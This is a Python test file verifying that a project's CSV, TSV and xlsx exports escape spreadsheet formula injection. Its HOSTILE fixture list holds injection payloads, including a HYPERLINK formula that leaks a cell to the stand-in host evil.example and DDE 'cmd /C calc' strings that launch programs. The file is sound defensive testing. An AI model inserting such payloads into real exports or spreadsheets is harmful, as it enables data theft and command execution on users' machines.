"""Issue 14 item 10: formula injection. Every CSV export goes through glasshouse.safe_csv, and
no exported cell can run as a spreadsheet formula, also after leading whitespace; numbers stay
numbers; our own importer reads its export back exactly."""

from __future__ import annotations

import csv
import io
import re
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest

from glasshouse import safe_csv
from glasshouse.safe_csv import is_dangerous, protect, unprotect

ROOT = Path(__file__).resolve().parents[2]

# What an attacker types into a cell, and what a spreadsheet would do with it.
HOSTILE = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
    " \t @SUM(A1)",
    "\n=1+1",
    "\u00a0=1+1",  # a no-break space before the formula
]
NUMBERS = ["-1.5", "+3", "-2e-3", " -7", "-0,5", "-12%"]
PLAIN = ["plain text", "a=1", "x@example.org", "", "1+1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_cells_are_quoted_and_round_trip(value) -> None:
    cell = protect(value)
    assert cell == "'" + value
    assert not _spreadsheet_formula(cell)
    assert unprotect(cell) == value


@pytest.mark.parametrize("value", NUMBERS + PLAIN)
def test_numbers_and_plain_text_are_left_alone(value) -> None:
    assert protect(value) == value and unprotect(value) == value


@pytest.mark.parametrize("value", ["'=1+1", "'hello", "''", "'"])
def test_a_leading_apostrophe_survives_the_round_trip(value) -> None:
    assert unprotect(protect(value)) == value


@pytest.mark.parametrize("value", [None, 3, -1.5, float("nan"), True])
def test_non_text_values(value) -> None:
    assert protect(value) == ("" if value is None or value != value else value)


def _spreadsheet_formula(cell: str) -> bool:
    """What LibreOffice/Excel would evaluate: a formula start after optional whitespace or a
    leading tab/CR - anything but a leading apostrophe (which makes the cell text)."""
    return not cell.startswith("'") and is_dangerous(cell)


def _cells(text: str, delimiter: str = ",") -> list[str]:
    return [c for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
            for c in row]


def _assert_no_formula(text: str, delimiter: str = ",") -> list[str]:
    cells = _cells(text, delimiter)
    bad = [c for c in cells if _spreadsheet_formula(c)]
    assert not bad, bad
    return cells


# ---------------------------------------------------------------- every export


def test_probe_run_export(viewer) -> None:
    from explorer.probes.service import StoredRun, export_run

    payload = {"probe": "counterfactual", "model": "smollm2", "effect": -0.25,
               "ci": [-0.5, -0.01], "p_value": 0.04,
               "details": [{"original": h, "counterfactual": "she " + h, "delta": -1.5}
                           for h in HOSTILE]}
    text = export_run(StoredRun("run-1", "t", viewer.username, "2026-12-01", payload), "csv")
    cells = _assert_no_formula(text)
    assert "-0.25" in cells and "-1.5" in cells  # numbers stay numbers
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [unprotect(r["original"]) for r in rows] == HOSTILE


@pytest.mark.parametrize("fmt,delim", [("csv", ","), ("tsv", "\t")])
def test_dataset_copies_written_by_save_like(tmp_path, fmt, delim) -> None:
    from explorer.datasets.loading import save_like

    frame = pd.DataFrame({"text": HOSTILE, "score": [-1.5] * len(HOSTILE),
                          "=evil column": ["x"] * len(HOSTILE)})
    out = save_like(frame, tmp_path / f"copy.{fmt}")
    cells = _assert_no_formula(out.read_text(encoding="utf-8"), delim)
    assert "'=evil column" in cells and "-1.5" in cells


def test_dataset_copies_written_as_xlsx_hold_no_formula(tmp_path) -> None:
    import openpyxl

    from explorer.datasets.loading import save_like

    out = save_like(pd.DataFrame({"text": HOSTILE, "n": range(len(HOSTILE))}),
                    tmp_path / "copy.xlsx")
    ws = openpyxl.load_workbook(out).active
    types = {c.data_type for row in ws.iter_rows() for c in row}
    assert "f" not in types  # openpyxl stores a text starting with '=' as a formula


@pytest.mark.slow
def test_anonymised_copy_from_the_scan_cli(tmp_path) -> None:
    src = tmp_path / "feedback.csv"
    pd.DataFrame({"text": [f"{h} write to ana.lopez@example.org" for h in HOSTILE],
                  "n": range(len(HOSTILE))}).to_csv(src, index=False)
    out = tmp_path / "anon.csv"
    r = subprocess.run([sys.executable, "app.py", "scan", str(src), "--text-column", "text",
                        "--languages", "en", "--anonymize", str(out), "--json"],
                       cwd=ROOT, capture_output=True, text=True, timeout=300)
    assert r.returncode == 0, r.stderr[-2000:]
    text = out.read_text(encoding="utf-8")
    assert "ana.lopez@example.org" not in text
    _assert_no_formula(text)


def test_embedding_map_coordinates(tmp_path, monkeypatch) -> None:
    from explorer.embeddings import maps as M
    from tests.explorer.embeddings.conftest import WordHashEmbedder

    monkeypatch.setenv("GLASSHOUSE_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.setenv("GLASSHOUSE_CACHE_DIR", str(tmp_path / "cache"))
    emb = WordHashEmbedder()
    monkeypatch.setattr("explorer.embeddings.embed.load_embedder", lambda name: emb)
    texts = [f"{h} cat sleeps {i}" for i, h in enumerate(HOSTILE)]
    m = M.build_map(pd.DataFrame({"text": texts}), M.MapRequest(text_column="text",
                                                                clusters="none"))
    out = M.export_coordinates(m, tmp_path / "coords.csv")
    _assert_no_formula(out.read_text(encoding="utf-8"))
    back = pd.read_csv(out)
    assert [unprotect(t) for t in back["text"]] == texts
    assert back["x"].dtype.kind == "f"  # negative coordinates stay numbers


def test_catalog_csv_export_and_reimport(db, curator) -> None:
    from catalog import service
    from catalog.exporters import export
    from catalog.importers import import_file

    for i, h in enumerate(HOSTILE):
        service.create_entry(db, {"name": f"corpus {i}", "id": f"evil-{i}",
                                  "description": h.strip() or "x",
                                  "quality_notes": h}, actor=curator)
    before = service.list_entries(db)
    text = export(before, "csv")
    _assert_no_formula(text)
    import tempfile

    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "catalog.csv"
        path.write_text(text, encoding="utf-8")
        report = import_file(db, path, actor=curator)
    assert (report.imported, report.updated, report.rejected) == (0, 0, [])
    assert service.list_entries(db) == before


def test_demo_feedback_export() -> None:
    from demos import export

    class Item:
        def __init__(self, comment: str) -> None:
            self.comment = comment

        def as_dict(self) -> dict:
            return {"id": 1, "demo": "d", "demo_version": 1, "model": "m", "category": "wrong",
                    "group": "@group", "language": "en", "comment": self.comment,
                    "input": "-3", "output": " =2+2", "tags": ["+tag"],
                    "created_at": "2026-12-01", "run_id": None}

    text = export.to_csv([Item(h) for h in HOSTILE])
    cells = _assert_no_formula(text)
    assert "-3" in cells  # a number typed as input stays a number
    assert "'@group" in cells and "' =2+2" in cells and "'+tag" in cells


def test_one_writer_no_other_csv_writers_in_the_code() -> None:
    """Every CSV export goes through glasshouse.safe_csv: no other module writes CSV."""
    offenders = []
    for path in ROOT.glob("*/**/*.py"):
        rel = path.relative_to(ROOT)
        if rel.parts[0] in (".venv", "tests", "bench", "fuzz", "scripts") or \
                rel == Path("glasshouse/safe_csv.py"):
            continue
        text = path.read_text(encoding="utf-8")
        for needle in (r"csv\.writer\(", r"csv\.DictWriter\(", r"(?<!export)\.to_csv\("):
            if re.search(needle, text):
                offenders.append(f"{rel}: {needle}")
    assert offenders == []


def test_write_frame_keeps_values_like_pandas(tmp_path) -> None:
    frame = pd.DataFrame({"a": [1, 2, None], "b": [0.1 + 0.2, -1.5, float("nan")],
                          "c": ["x", None, "y, with comma"]})
    ours = safe_csv.write_frame(frame, tmp_path / "ours.csv")
    frame.to_csv(tmp_path / "pandas.csv", index=False)
    read = [list(csv.reader(open(p, newline=""))) for p in (ours, tmp_path / "pandas.csv")]
    assert read[0] == read[1]  # the same cells as pandas writes (0.30000000000000004, 1.0)
    assert ours.read_bytes().count(b"\r\n") == 4  # RFC 4180 line ends
